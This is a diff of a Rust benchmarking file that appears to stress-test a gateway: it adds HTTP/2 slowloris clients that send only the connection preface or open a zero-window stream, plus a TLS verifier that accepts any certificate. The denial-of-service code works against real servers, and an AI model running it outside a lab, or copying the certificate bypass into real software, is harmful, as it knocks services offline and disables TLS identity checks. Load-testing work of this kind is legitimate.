@@ -1,6 +1,7 @@
 //! The two scenarios that measure survival rather than speed (issue 8). `slowloris`: thousands of
-//! connections that send their head or body a byte at a time, while a normal client measures what
-//! is left of its req/s. `soak`: minutes of mixed traffic (small, 1 MB, uploads, 429s, WebSocket)
+//! connections that send their head or body a byte at a time (or, over HTTP/2, the preface and
+//! then nothing, or a stream they never open the window of: issue 16), while a normal client
+//! measures what is left of its req/s. `soak`: minutes of mixed traffic (small, 1 MB, uploads, 429s, WebSocket)
 //! with the gateway's RSS and open descriptors sampled throughout, and its pool counters read
 //! from the admin `/metrics` at the end.
 
@@ -40,9 +41,21 @@ impl SlowlorisResult {
     }
 }
 
-/// The attack: `connections` sockets, half sending a request head that never ends, half a
-/// `POST` head and then its body, each a byte per `interval`. A socket the gateway closes is
-/// opened again. Runs until [`Attack::stop`].
+/// What the attack's connections send.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SlowClients {
+    /// Plain HTTP/1.1: half send a request head that never ends, half a `POST` head and then
+    /// its body, each a byte per interval.
+    Http1,
+    /// HTTP/2 over TLS (ALPN `h2`): half send the connection preface and SETTINGS and then
+    /// nothing; half also open a stream (`GET /`) with `SETTINGS_INITIAL_WINDOW_SIZE` 0 and never
+    /// open the window, so its response waits on them. They send nothing more and never
+    /// acknowledge a PING; what the gateway sends is read and dropped.
+    Http2,
+}
+
+/// The attack: `connections` sockets of `clients`' kind. A socket the gateway closes is opened
+/// again. Runs until [`Attack::stop`].
 pub struct Attack {
     stop: Arc<AtomicBool>,
     open: Arc<AtomicU64>,
@@ -50,9 +63,35 @@ pub struct Attack {
     thread: Option<thread::JoinHandle<()>>,
 }
 
+/// What one attacking connection does.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Role {
+    SlowHead,
+    SlowBody,
+    Preface,
+    ZeroWindow,
+}
+
+impl Role {
+    fn of(clients: SlowClients, index: u32) -> Role {
+        match (clients, index % 2 == 1) {
+            (SlowClients::Http1, false) => Role::SlowHead,
+            (SlowClients::Http1, true) => Role::SlowBody,
+            (SlowClients::Http2, false) => Role::Preface,
+            (SlowClients::Http2, true) => Role::ZeroWindow,
+        }
+    }
+}
+
+/// An attacking connection, plain or TLS.
+enum Socket {
+    Plain(TcpStream),
+    Tls(Box<rustls::StreamOwned<rustls::ClientConnection, TcpStream>>),
+}
+
 struct Attacker {
-    stream: Option<TcpStream>,
-    slow_body: bool,
+    stream: Option<Socket>,
+    role: Role,
     sent: usize,
 }
 
@@ -61,44 +100,206 @@ const SLOW_HEAD: &[u8] =
 const SLOW_BODY_HEAD: &[u8] =
     b"POST / HTTP/1.1\r\nHost: lab\r\nUser-Agent: weir-lab-slowloris\r\nContent-Length: 1000000\r\n\r\n";
 
-impl Attacker {
-    /// The next byte: the head's bytes, then an endless header value or body.
-    fn next_byte(&self) -> u8 {
-        let head = if self.slow_body {
-            SLOW_BODY_HEAD
-        } else {
-            SLOW_HEAD
-        };
-        head.get(self.sent).copied().unwrap_or(b'a')
+/// The HTTP/2 client connection preface (RFC 9113 §3.4).
+const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+/// An HTTP/2 frame: length, type, flags, stream id, payload.
+fn h2_frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
+    let length = payload.len();
+    let mut bytes = vec![
+        (length >> 16) as u8,
+        (length >> 8) as u8,
+        length as u8,
+        kind,
+        flags,
+    ];
+    bytes.extend_from_slice(&stream_id.to_be_bytes());
+    bytes.extend_from_slice(payload);
+    bytes
+}
+
+/// What an HTTP/2 attacker sends once, after the handshake.
+fn h2_opening(role: Role) -> Vec<u8> {
+    let mut bytes = H2_PREFACE.to_vec();
+    if role == Role::ZeroWindow {
+        // SETTINGS_INITIAL_WINDOW_SIZE (0x4) = 0, then HEADERS (END_STREAM | END_HEADERS) of
+        // `GET /`: :method GET, :scheme https, :path / (indexed), :authority "lab" (literal).
+        bytes.extend(h2_frame(0x4, 0, 0, &[0, 0x4, 0, 0, 0, 0]));
+        bytes.extend(h2_frame(
+            0x1,
+            0x5,
+            1,
+            &[0x82, 0x87, 0x84, 0x01, 3, b'l', b'a', b'b'],
+        ));
+    } else {
+        bytes.extend(h2_frame(0x4, 0, 0, &[]));
+    }
+    bytes
+}
+
+/// Accepts any server certificate: the attack needs the TLS session, not the server's identity
+/// (the lab's certificate is self-signed).
+#[derive(Debug)]
+struct AnyCertificate(Arc<rustls::crypto::CryptoProvider>);
+
+impl rustls::client::danger::ServerCertVerifier for AnyCertificate {
+    fn verify_server_cert(
+        &self,
+        _end_entity: &rustls::pki_types::CertificateDer<'_>,
+        _intermediates: &[rustls::pki_types::CertificateDer<'_>],
+        _server_name: &rustls::pki_types::ServerName<'_>,
+        _ocsp_response: &[u8],
+        _now: rustls::pki_types::UnixTime,
+    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
+        Ok(rustls::client::danger::ServerCertVerified::assertion())
     }
 
-    fn connect(addr: SocketAddr) -> Option<TcpStream> {
+    fn verify_tls12_signature(
+        &self,
+        message: &[u8],
+        cert: &rustls::pki_types::CertificateDer<'_>,
+        dss: &rustls::DigitallySignedStruct,
+    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
+        rustls::crypto::verify_tls12_signature(
+            message,
+            cert,
+            dss,
+            &self.0.signature_verification_algorithms,
+        )
+    }
+
+    fn verify_tls13_signature(
+        &self,
+        message: &[u8],
+        cert: &rustls::pki_types::CertificateDer<'_>,
+        dss: &rustls::DigitallySignedStruct,
+    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
+        rustls::crypto::verify_tls13_signature(
+            message,
+            cert,
+            dss,
+            &self.0.signature_verification_algorithms,
+        )
+    }
+
+    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
+        self.0.signature_verification_algorithms.supported_schemes()
+    }
+}
+
+/// The HTTP/2 attackers' TLS client: ALPN `h2` only, any certificate.
+fn h2_client_config() -> Option<Arc<rustls::ClientConfig>> {
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let mut config = rustls::ClientConfig::builder_with_provider(Arc::clone(&provider))
+        .with_safe_default_protocol_versions()
+        .ok()?
+        .dangerous()
+        .with_custom_certificate_verifier(Arc::new(AnyCertificate(provider)))
+        .with_no_client_auth();
+    config.alpn_protocols = vec![b"h2".to_vec()];
+    Some(Arc::new(config))
+}
+
+impl Attacker {
+    /// The next byte of a dripping attacker: the head's bytes, then an endless header value or
+    /// body. HTTP/2 attackers drip nothing.
+    fn next_byte(&self) -> Option<u8> {
+        let head = match self.role {
+            Role::SlowHead => SLOW_HEAD,
+            Role::SlowBody => SLOW_BODY_HEAD,
+            Role::Preface | Role::ZeroWindow => return None,
+        };
+        Some(head.get(self.sent).copied().unwrap_or(b'a'))
+    }
+
+    fn connect(
+        addr: SocketAddr,
+        role: Role,
+        tls: Option<&Arc<rustls::ClientConfig>>,
+    ) -> Option<Socket> {
         let stream = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
-        stream.set_nonblocking(true).ok()?;
-        Some(stream)
+        let socket = match (role, tls) {
+            (Role::SlowHead | Role::SlowBody, _) => Socket::Plain(stream),
+            (Role::Preface | Role::ZeroWindow, Some(config)) => {
+                // The handshake and the opening frames, blocking (bounded), then the socket is
+                // only read.
+                stream.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
+                stream
+                    .set_write_timeout(Some(Duration::from_secs(5)))
+                    .ok()?;
+                let name = rustls::pki_types::ServerName::IpAddress(addr.ip().into());
+                let connection = rustls::ClientConnection::new(Arc::clone(config), name).ok()?;
+                let mut tls = rustls::StreamOwned::new(connection, stream);
+                tls.write_all(&h2_opening(role)).ok()?;
+                tls.flush().ok()?;
+                Socket::Tls(Box::new(tls))
+            }
+            (Role::Preface | Role::ZeroWindow, None) => return None,
+        };
+        match &socket {
+            Socket::Plain(stream) => stream.set_nonblocking(true).ok()?,
+            Socket::Tls(tls) => tls.sock.set_nonblocking(true).ok()?,
+        }
+        Some(socket)
+    }
+
+    /// Reads and drops what the gateway sent, then drips the next byte; false once the gateway
+    /// closed the connection.
+    fn alive(&mut self, scratch: &mut [u8]) -> bool {
+        let byte = self.next_byte();
+        match &mut self.stream {
+            Some(Socket::Plain(stream)) => {
+                // Whatever the gateway answered (a 408, say) is read and dropped; end of stream
+                // means it closed the connection.
+                let gone = matches!(stream.read(scratch), Ok(0));
+                !gone
+                    && match byte.map(|byte| stream.write(&[byte])) {
+                        None | Some(Ok(_)) => true,
+                        Some(Err(error)) => error.kind() == io::ErrorKind::WouldBlock,
+                    }
+            }
+            Some(Socket::Tls(tls)) => match tls.read(scratch) {
+                Ok(0) => false,
+                Ok(_) => true,
+                Err(error) => error.kind() == io::ErrorKind::WouldBlock,
+            },
+            None => false,
+        }
     }
 }
 
 impl Attack {
-    pub fn start(addr: SocketAddr, connections: u32, interval: Duration) -> Attack {
+    /// Starts `connections` attackers on `addr`, which speaks TLS for [`SlowClients::Http2`];
+    /// a dripping attacker sends a byte per `interval`, and every attacker is checked as often.
+    pub fn start(
+        addr: SocketAddr,
+        connections: u32,
+        interval: Duration,
+        clients: SlowClients,
+    ) -> Attack {
         let stop = Arc::new(AtomicBool::new(false));
         let open = Arc::new(AtomicU64::new(0));
         let closed = Arc::new(AtomicU64::new(0));
         let (thread_stop, thread_open, thread_closed) =
             (Arc::clone(&stop), Arc::clone(&open), Arc::clone(&closed));
         let thread = thread::spawn(move || {
+            let tls = match clients {
+                SlowClients::Http1 => None,
+                SlowClients::Http2 => h2_client_config(),
+            };
             let mut attackers: Vec<Attacker> = Vec::with_capacity(connections as usize);
             for index in 0..connections {
                 if thread_stop.load(Ordering::SeqCst) {
                     return;
                 }
-                let stream = Attacker::connect(addr);
+                let role = Role::of(clients, index);
+                let stream = Attacker::connect(addr, role, tls.as_ref());
                 if stream.is_some() {
                     thread_open.fetch_add(1, Ordering::SeqCst);
                 }
                 attackers.push(Attacker {
                     stream,
-                    slow_body: index % 2 == 1,
+                    role,
                     sent: 0,
                 });
             }
@@ -106,21 +307,7 @@ impl Attack {
             while !thread_stop.load(Ordering::SeqCst) {
                 let tick = Instant::now();
                 for attacker in attackers.iter_mut() {
-                    let byte = attacker.next_byte();
-                    let alive = match &mut attacker.stream {
-                        Some(stream) => {
-                            // Whatever the gateway answered (a 408, say) is read and dropped;
-                            // end of stream means it closed the connection.
-                            let gone = matches!(stream.read(&mut scratch), Ok(0));
-                            !gone
-                                && match stream.write(&[byte]) {
-                                    Ok(_) => true,
-                                    Err(error) => error.kind() == io::ErrorKind::WouldBlock,
-                                }
-                        }
-                        None => false,
-                    };
-                    if alive {
+                    if attacker.alive(&mut scratch) {
                         attacker.sent += 1;
                         continue;
                     }
@@ -129,7 +316,7 @@ impl Attack {
                         thread_closed.fetch_add(1, Ordering::SeqCst);
                     }
                     attacker.sent = 0;
-                    attacker.stream = Attacker::connect(addr);
+                    attacker.stream = Attacker::connect(addr, attacker.role, tls.as_ref());
                     if attacker.stream.is_some() {
                         thread_open.fetch_add(1, Ordering::SeqCst);
                     }
@@ -581,7 +768,7 @@ pub fn markdown(records: &[Record]) -> String {
             "The normal client must keep at least {:.0}% of its baseline req/s, with no error (else VOID).\n",
             SLOWLORIS_KEEP * 100.0
         );
-        text.push_str("| gateway | round | baseline req/s | under attack req/s | kept | attackers open | attackers closed by the gateway | verdict |\n|---|---:|---:|---:|---:|---:|---:|---|\n");
+        text.push_str("| attack | gateway | round | baseline req/s | under attack req/s | kept | attackers open | attackers closed by the gateway | verdict |\n|---|---|---:|---:|---:|---:|---:|---:|---|\n");
         for record in slowloris {
             let Some(result) = record.slowloris else {
                 continue;
@@ -600,7 +787,8 @@ pub fn markdown(records: &[Record]) -> String {
             };
             let _ = writeln!(
                 text,
-                "| {} | {} | {:.0} | {:.0} | {} | {} | {} | {} |",
+                "| {} | {} | {} | {:.0} | {:.0} | {} | {} | {} | {} |",
+                record.group,
                 record.gateway,
                 record.round + 1,
                 result.baseline_rps,
